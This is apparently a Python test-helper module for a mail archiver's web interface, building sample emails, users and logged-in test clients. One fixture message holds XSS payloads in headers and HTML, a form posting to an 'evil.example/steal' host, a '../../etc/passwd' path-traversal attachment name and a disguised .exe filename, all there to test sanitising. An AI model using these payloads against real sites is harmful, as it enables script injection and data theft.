"""Helpers for the web tests: a small archive with a known cast, users, a logged-in client.

The cast: Alice writes to Bob with Carol as a Bcc recipient (only the envelope knows), with
an attachment; Dave writes to Erin; a hostile message (script, event handlers, javascript:
links, a remote image, hostile header values and attachment names) goes to Bob; a message
with ``From `` lines in its body tests the mbox quoting.
"""

from __future__ import annotations

import base64
import re
import sqlite3
import warnings
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from argon2 import PasswordHasher
from starlette.exceptions import StarletteDeprecationWarning

from postfix_archiver.accounts import DB_NAME, Accounts, home_url, open_accounts
from postfix_archiver.archive import Archive
from postfix_archiver.config import Config
from postfix_archiver.envelope import Envelope
from postfix_archiver.web import create_app
from postfix_archiver.web.auth import RateLimiter

with warnings.catch_warnings():
    # starlette 1.x would rather have httpx2 (not a dependency here); httpx works the same
    warnings.filterwarnings("ignore", "Using `httpx`", StarletteDeprecationWarning)
    from starlette.testclient import TestClient

PASSWORD = "correct horse battery"
CHEAP = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)  # argon2, fast for tests
REMOTE_IMAGE = "http://images.example.net/track.png?id=42"

ATTACHMENT = b"%PDF-1.4 quarterly numbers\n" + bytes(range(256)) * 4

ALICE_TO_BOB = (
    "From: Alice Example <alice@example.com>\r\n"
    "To: Bob Example <bob@example.com>\r\n"
    "Subject: Q3 report\r\n"
    "Date: Tue, 07 Jan 2025 10:00:00 +0000\r\n"
    "Message-ID: <q3@example.com>\r\n"
    "MIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="b1"\r\n'
    "\r\n"
    "--b1\r\n"
    "Content-Type: text/plain; charset=utf-8\r\n"
    "\r\n"
    "Here is the quarterly report.\r\n"
    "--b1\r\n"
    'Content-Type: application/pdf; name="report.pdf"\r\n'
    'Content-Disposition: attachment; filename="report.pdf"\r\n'
    "Content-Transfer-Encoding: base64\r\n"
    "\r\n" + base64.encodebytes(ATTACHMENT).decode().replace("\n", "\r\n") + "--b1--\r\n"
).encode()

DAVE_TO_ERIN = (
    b"From: Dave <dave@example.org>\r\n"
    b"To: Erin <erin@example.org>\r\n"
    b"Subject: Lunch on Friday\r\n"
    b"Date: Wed, 08 Jan 2025 12:00:00 +0000\r\n"
    b"Message-ID: <lunch@example.org>\r\n"
    b"\r\n"
    b"Pizza again?\r\n"
)

HOSTILE_HTML = (
    "<html><head><title>x</title><style>body{background:url(http://images.example.net/bg.png)}"
    "</style><script>document.title='PWNED';window.__pwned=1;alert(1)</script>"
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">'
    '<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/s.css">'
    "</head><body>"
    "<h1>Invoice</h1>"
    f'<p>Please pay.<img src="{REMOTE_IMAGE}" alt="tracker"></p>'
    "<img src=x onerror=\"document.title='PWNED';alert(2)\">"
    "<svg onload=alert(3)><circle r=1 /></svg>"
    '<a href="javascript:alert(4)">click</a> <a href="https://example.com/ok">fine link</a>'
    '<iframe src="http://evil.example/frame"></iframe>'
    '<form action="http://evil.example/steal"><input name=p></form>'
    '<div style="background-image:url(http://images.example.net/div.png);color:red">red</div>'
    "<p onclick=alert(5)>text</p>"
    "</body></html>"
)

HOSTILE = (
    'From: "</title><script>alert(6)</script>" <mallory@evil.example>\r\n'
    "To: bob@example.com\r\n"
    "Subject: </title><script>alert(7)</script> "
    "=?utf-8?q?=3Cimg_src=3Dx_onerror=3Dalert(8)=3E?=\r\n"
    "Date: Thu, 09 Jan 2025 09:00:00 +0000\r\n"
    'Message-ID: <"><script>alert(9)</script>@evil.example>\r\n'
    "X-Evil: <b onmouseover=alert(10)>hover</b>\r\n"
    "MIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="b2"\r\n'
    "\r\n"
    "--b2\r\n"
    'Content-Type: multipart/alternative; boundary="b3"\r\n'
    "\r\n"
    "--b3\r\n"
    "Content-Type: text/plain; charset=utf-8\r\n"
    "\r\n"
    "Please pay. <script>alert(11)</script>\r\n"
    "--b3\r\n"
    "Content-Type: text/html; charset=utf-8\r\n"
    "\r\n" + HOSTILE_HTML + "\r\n"
    "--b3--\r\n"
    "--b2\r\n"
    "Content-Type: text/plain\r\n"
    'Content-Disposition: attachment; filename="../../etc/passwd"\r\n'
    "\r\n"
    "root:x:0:0:root:/root:/bin/bash\r\n"
    "--b2\r\n"
    "Content-Type: text/html\r\n"
    'Content-Disposition: attachment; filename="\\"><script>alert(12)</script>.html"\r\n'
    "\r\n"
    "<script>alert(13)</script>\r\n"
    "--b2\r\n"
    "Content-Type: application/octet-stream\r\n"
    "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\r\n"
    "\r\n"
    "MZ\r\n"
    "--b2--\r\n"
).encode()

FROM_LINES = (
    b"From: Erin <erin@example.org>\n"
    b"To: Dave <dave@example.org>\n"
    b"Subject: quoting\n"
    b"Date: Fri, 10 Jan 2025 08:00:00 +0000\n"
    b"\n"
    b"From here on\n>From there\nno final newline"
)


@dataclass
class Cast:
    """Archive ids of the test messages."""

    report: int  # Alice -> Bob, Carol Bcc, attachment
    lunch: int  # Dave -> Erin
    hostile: int  # Mallory -> Bob
    quoting: int  # Erin -> Dave, From_ lines
    raws: dict[int, bytes] = field(default_factory=dict)


def load_cast(archive: Archive) -> Cast:
    when = datetime(2025, 1, 7, 10, tzinfo=UTC)
    items = [
        (ALICE_TO_BOB, Envelope("alice@example.com", ("bob@example.com", "carol@example.com"),
                                queue_id="4ABC1", client_address="192.0.2.10", received=when)),
        (DAVE_TO_ERIN, Envelope("dave@example.org", ("erin@example.org",), received=when)),
        (HOSTILE, Envelope("bounce@evil.example", ("bob@example.com",), received=when)),
        (FROM_LINES, Envelope("erin@example.org", ("dave@example.org",), received=when)),
    ]  # fmt: skip
    ids = [archive.ingest(raw, env).id for raw, env in items]
    archive.index_pending()  # what serve's and web's indexer thread does after the answer
    report, lunch, hostile, quoting = ids
    raws = {i: raw for i, (raw, _) in zip(ids, items, strict=True)}
    return Cast(report, lunch, hostile, quoting, raws)


USERS = {
    "admin": ("admin", ()),
    "audra": ("auditor", ()),
    "bob": ("user", ("bob@example.com",)),
    "carol": ("user", ("Carol@Example.com",)),
    "dave": ("user", ("dave@example.org",)),
    "nobody": ("user", ()),
}


def add_users(accounts: Accounts) -> None:
    for name, (role, addresses) in USERS.items():
        accounts.add_user(name, role, PASSWORD, addresses)


_CSRF = re.compile(r'name="csrf" value="([^"]+)"')


def csrf_of(html: str) -> str:
    match = _CSRF.search(html)
    assert match, "no CSRF field in the page"
    return match.group(1)


@dataclass
class Web:
    config: Config
    archive: Archive
    accounts: Accounts
    limiter: RateLimiter
    cast: Cast
    clients: list[Any] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.app = create_app(self.config, self.archive, accounts=self.accounts,
                              limiter=self.limiter)  # fmt: skip

    @property
    def accounts_path(self) -> Path:
        """The SQLite file of the accounts, for tests that play someone with the file."""
        return Path(self.config.archive.home) / DB_NAME

    def client(self, **kwargs: Any) -> Any:
        kwargs.setdefault("follow_redirects", False)
        client = TestClient(self.app, **kwargs)
        client.__enter__()
        self.clients.append(client)
        return client

    def close(self) -> None:
        for client in self.clients:
            client.__exit__(None, None, None)

    def login(self, name: str, password: str = PASSWORD, **kwargs: Any) -> Any:
        """A client with a session for ``name``."""
        client = self.client(**kwargs)
        response = self.post_login(client, name, password)
        assert response.status_code == 303, response.text
        return client

    @staticmethod
    def post_login(client: Any, name: str, password: str, next_url: str = "/search") -> Any:
        form = client.get("/login")
        return client.post(
            "/login",
            data={"name": name, "password": password, "csrf": csrf_of(form.text),
                  "next": next_url},
        )  # fmt: skip

    def token_client(self, name: str) -> Any:
        _, secret = self.accounts.create_token(name, "test")
        client = self.client()
        client.headers["Authorization"] = f"Bearer {secret}"
        return client

    def audit(self, action: str | None = None) -> list[Any]:
        _, entries = self.accounts.audit(limit=1000, action=action)
        return list(reversed(entries))


def sql(path: Any, statement: str) -> list[tuple[Any, ...]]:
    """One statement on its own connection (closed again), as a person with the file would."""
    conn = sqlite3.connect(path)
    try:
        rows = conn.execute(statement).fetchall()
        conn.commit()
        return rows
    finally:
        conn.close()


@contextmanager
def admin_web(config: Config) -> Iterator[tuple[Archive, Web]]:
    """The archive of ``config`` and a ``Web`` over it with one admin, "admin" (no cast)."""
    with (
        Archive(config) as archive,
        open_accounts(home_url(config.archive.home), hasher=CHEAP) as accounts,
    ):
        accounts.add_user("admin", "admin", PASSWORD, [])
        web = Web(config, archive, accounts, RateLimiter(), cast=None)  # type: ignore[arg-type]
        try:
            yield archive, web
        finally:
            web.close()
